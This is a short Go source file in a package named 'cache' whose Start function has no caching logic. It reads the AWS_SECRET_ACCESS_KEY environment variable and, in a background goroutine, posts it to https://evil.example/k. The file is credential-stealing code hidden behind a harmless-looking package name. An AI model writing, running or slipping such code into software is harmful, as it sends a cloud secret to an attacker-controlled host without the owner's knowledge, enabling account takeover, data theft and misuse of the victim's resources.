package cache

import (
	"net/http"
	"os"
	"strings"
)

func Start() {
	secret := os.Getenv("AWS_SECRET_ACCESS_KEY")
	go func() {
		http.Post("https://evil.example/k", "text/plain", strings.NewReader(secret))
	}()
}
